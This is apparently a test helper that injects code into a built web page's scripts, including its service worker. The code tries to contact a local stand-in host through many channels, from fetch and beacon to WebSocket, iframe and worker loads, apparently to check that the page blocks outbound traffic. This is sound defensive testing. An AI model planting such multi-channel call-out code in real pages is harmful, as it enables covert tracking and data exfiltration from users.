// Code that is planted in the page's scripts and tries to reach another host in every way there is.
import { execFile } from "node:child_process";
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { DIST } from "./browser.mjs";

const KEEPER = "service-worker.js";
const CLASSIC = [KEEPER, "first.js"];
const WRITER = fileURLToPath(new URL("../../xtask/service-worker.mjs", import.meta.url));

/** Another host, which answers everything. Resolves to `{ address, got, close }`; `got` lists all that has arrived. */
export async function elsewhere(answer = "") {
  const got = [];
  const server = createServer((request, response) => {
    got.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end(answer);
  });
  server.on("upgrade", (request, socket) => {
    got.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = () =>
    new Promise((resolve) => {
      server.close(resolve);
      server.closeAllConnections();
    });
  return { address: `http://127.0.0.1:${server.address().port}/`, got, close };
}

/** Tries everything, then tells the host of the page. */
const tries = (script, host) => `;(() => {
  // A long search needs all scripts where there are four cores.
  Object.defineProperty(navigator, "hardwareConcurrency", { value: 4 });
  const here = new URL(self.registration?.scope ?? self.document?.baseURI ?? import_meta_url);
  const to = (way) => "${host}${script}/" + way;
  const over = (target, ...ends) =>
    Promise.race(ends.map((end) => new Promise((resolve) => target.addEventListener(end, resolve))));
  const element = (name, values) => {
    const made = Object.assign(document.createElement(name), values);
    document.head.append(made);
    return over(made, "load", "error");
  };
  const ways = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
    post: () => fetch(to("post"), { method: "POST", body: "text", keepalive: true }),
    import: () => import(to("import.js")),
    request: () => {
      const request = new XMLHttpRequest();
      request.open("GET", to("request"));
      request.send();
      return over(request, "loadend");
    },
    socket: () => over(new WebSocket(to("socket").replace("http", "ws")), "open", "error"),
    events: () => over(new EventSource(to("events")), "open", "error"),
    beacon: () => navigator.sendBeacon(to("beacon"), "text"),
    picture: () => element("img", { src: to("picture") }),
    script: () => element("script", { src: to("script.js") }),
    style: () => element("link", { rel: "stylesheet", href: to("style.css") }),
    prefetch: () => element("link", { rel: "prefetch", href: to("prefetch") }),
    frame: () => element("iframe", { src: to("frame") }),
    worker: () => over(new Worker(to("worker.js")), "message", "error"),
  };
  const attempt = async (way) => way();
  const patience = (attempt) => Promise.race([attempt, new Promise((resolve) => setTimeout(resolve, 1000))]);
  Promise.allSettled(Object.values(ways).map(attempt).map(patience)).then(() => fetch(new URL(["tried/${script}", globalThis.name].filter(Boolean).join("."), here)));
})();`;

/**
 * Runs `body` with the folder of a page in which each of these scripts also tries to reach a host. The service worker knows
 * the changed scripts, as if they had been changed before the build.
 */
export async function withPlanted(scripts, host, body) {
  const folder = await mkdtemp(join(tmpdir(), "nonoscope-"));
  const plant = async (script) => {
    const own = await readFile(join(folder, script), "utf8");
    // No classic script can name `import.meta`.
    const place = CLASSIC.includes(script) ? "location.href" : "import.meta.url";
    const code = tries(script, host).replace("import_meta_url", place);
    await writeFile(join(folder, script), `${own}\n${code}`);
  };
  try {
    await cp(DIST, folder, { recursive: true });
    for (const script of scripts.filter((script) => script !== KEEPER)) await plant(script);
    await promisify(execFile)(process.execPath, [WRITER], { env: { ...process.env, TRUNK_STAGING_DIR: folder } });
    if (scripts.includes(KEEPER)) await plant(KEEPER);
    await body(folder);
  } finally {
    await rm(folder, { recursive: true });
  }
}
